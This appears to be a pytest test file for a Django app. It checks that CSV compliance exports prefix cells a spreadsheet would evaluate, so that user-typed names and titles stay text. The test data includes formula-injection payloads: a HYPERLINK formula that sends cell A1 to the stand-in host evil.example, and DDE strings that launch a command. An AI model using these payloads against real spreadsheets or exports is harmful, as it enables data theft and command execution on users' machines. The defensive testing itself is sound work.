"""What leaves the system: CSV exports a spreadsheet cannot run, links that cannot run script, emails that are delivered or visibly failed."""

import csv
import io

import pytest
from django.urls import reverse

from core.exports import csv_cell
from tests import factories
from tests.plans.factories import published_plan
from tests.training.factories import make_course

pytestmark = pytest.mark.django_db

# Names a spreadsheet would evaluate as formulas, as typed by the person (or an attacker).
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def formula_people():
    return [
        factories.staff(username=f"formula{i}", first_name=name, last_name="")
        for i, name in enumerate(FORMULA_NAMES)
    ]


def read_csv(response):
    assert response.status_code == 200 and response.streaming
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def assert_neutralised(rows, column):
    names = {row["username"]: row[column] for row in rows}
    for i, name in enumerate(FORMULA_NAMES):
        cell = names[f"formula{i}"]
        # The person's name is there, as text a spreadsheet shows and never evaluates.
        assert cell.startswith("'") and name.strip() in cell, cell


def test_plan_compliance_csv_quotes_cells_a_spreadsheet_would_run(client, compliance_user):
    formula_people()
    plan, version, _, _ = published_plan(code="CSV")
    client.force_login(compliance_user)
    rows = read_csv(
        client.get(reverse("admin:plans_planversion_compliance_csv", args=[version.pk]))
    )
    assert_neutralised(rows, "full_name")
    # Numbers from numeric columns stay numbers.
    assert {row["version"] for row in rows} == {str(version.number)}
    assert all(row["user_id"].isdigit() for row in rows)


def test_training_compliance_csv_quotes_cells_a_spreadsheet_would_run(client, compliance_user):
    formula_people()
    course = make_course(title="=HYPERLINK(\"http://evil.example\")")
    client.force_login(compliance_user)
    rows = read_csv(client.get(reverse("admin:training_course_compliance_csv")))
    assert_neutralised(rows, "full_name")
    assert {row["course"] for row in rows} == {"'" + course.title}
    assert all(row["user_id"].isdigit() and row["course_id"].isdigit() for row in rows)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # text that looks like a number is still text someone typed
        ("＝1+1", "'＝1+1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (-5, -5),  # a genuine number from a numeric column is left as it is
        (2.5, 2.5),
        (None, ""),
    ],
)
def test_one_cell_rule_for_every_export(value, written):
    assert csv_cell(value) == written
